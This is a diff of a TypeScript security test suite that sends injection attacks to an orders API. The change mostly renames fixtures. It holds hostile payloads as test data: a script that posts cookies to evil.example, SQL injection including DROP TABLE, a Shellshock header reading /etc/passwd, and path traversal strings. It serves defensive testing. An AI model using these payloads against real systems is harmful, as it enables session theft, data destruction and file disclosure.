@@ -1,19 +1,19 @@
 import { randomUUID } from 'node:crypto'
-import { type Answer, send } from '../../support/targets/send.ts'
+import { type Answer, send } from '../../support/clients/send.ts'
+import { plainDraft } from '../../support/samples.ts'
 import { type Attack, attack, type Scene } from '../attack.ts'
-import { draft } from '../world.ts'
 
 type Found = { items?: unknown[] }
 
-const search = ({ baseUrl, world, address }: Scene, q: string) =>
-  send(baseUrl, `/api/orders/search?q=${encodeURIComponent(q)}`, { token: world.token('owner'), from: address() })
+const search = ({ baseUrl, fixture, address }: Scene, q: string) =>
+  send(baseUrl, `/api/orders/search?q=${encodeURIComponent(q)}`, { token: fixture.token('owner'), from: address() })
 
-const create = ({ baseUrl, world, address }: Scene, json: object, headers = {}) =>
-  send(baseUrl, '/api/orders', { method: 'POST', token: world.token('owner'), from: address(), json, headers })
+const create = ({ baseUrl, fixture, address }: Scene, json: object, headers = {}) =>
+  send(baseUrl, '/api/orders', { method: 'POST', token: fixture.token('owner'), from: address(), json, headers })
 
 const script = '<script>fetch("https://evil.example/" + document.cookie)</script>'
 
-const [line] = draft.lines
+const [line] = plainDraft.lines
 const descriptions = [...Array.from({ length: 99 }, (_, index) => `Desk lamp, number ${index}`), script]
 
 const runsInABrowser = ({ headers }: Answer) =>
@@ -28,31 +28,31 @@ export const injections: Attack[] = [
   ),
   attack(
     'SQL in an id of the path',
-    ({ baseUrl, world, address }) =>
-      send(baseUrl, `/api/orders/${randomUUID()}'%20OR%20'1'='1`, { token: world.token('owner'), from: address() }),
+    ({ baseUrl, fixture, address }) =>
+      send(baseUrl, `/api/orders/${randomUUID()}'%20OR%20'1'='1`, { token: fixture.token('owner'), from: address() }),
     ({ status }) => status === 200 || status === 500,
   ),
   attack(
     'SQL in a body',
-    scene => create(scene, { ...draft, customerName: "x'); DROP TABLE order_lines; --" }),
+    scene => create(scene, { ...plainDraft, customerName: "x'); DROP TABLE order_lines; --" }),
     ({ status }) => status === 500,
   ),
   attack(
     'SQL in a header',
-    scene => create(scene, draft, { 'idempotency-key': "x' OR pg_sleep(5) IS NULL OR '1'='1" }),
+    scene => create(scene, plainDraft, { 'idempotency-key': "x' OR pg_sleep(5) IS NULL OR '1'='1" }),
     ({ status }) => status === 500,
   ),
-  attack('script in an order’s note', scene => create(scene, { ...draft, note: script }), runsInABrowser),
+  attack('script in an order’s note', scene => create(scene, { ...plainDraft, note: script }), runsInABrowser),
   attack(
     'script in the last of 100 descriptions',
-    scene => create(scene, { ...draft, lines: descriptions.map(description => ({ ...line, description })) }),
+    scene => create(scene, { ...plainDraft, lines: descriptions.map(description => ({ ...line, description })) }),
     runsInABrowser,
   ),
   attack(
     'shell command in a header',
-    ({ baseUrl, world, address }) =>
+    ({ baseUrl, fixture, address }) =>
       send(baseUrl, '/api/orders', {
-        token: world.token('owner'),
+        token: fixture.token('owner'),
         from: address(),
         headers: { 'user-agent': '() { :; }; /bin/cat /etc/passwd' },
       }),
@@ -63,13 +63,13 @@ export const injections: Attack[] = [
     scene => search(scene, '../../../../../etc/passwd'),
     ({ status, text }) => status === 500 || text.includes('root:'),
   ),
-  attack('dot segments in the path', ({ baseUrl, world, address }) =>
-    send(baseUrl, '/api/orders/..%2f..%2f..%2fetc%2fpasswd', { token: world.token('owner'), from: address() }),
+  attack('dot segments in the path', ({ baseUrl, fixture, address }) =>
+    send(baseUrl, '/api/orders/..%2f..%2f..%2fetc%2fpasswd', { token: fixture.token('owner'), from: address() }),
   ),
   attack(
     'NUL in a search',
-    ({ baseUrl, world, address }) =>
-      send(baseUrl, '/api/orders/search?q=lamp%00', { token: world.token('owner'), from: address() }),
+    ({ baseUrl, fixture, address }) =>
+      send(baseUrl, '/api/orders/search?q=lamp%00', { token: fixture.token('owner'), from: address() }),
     ({ status }) => status === 200 || status === 500,
   ),
 ]
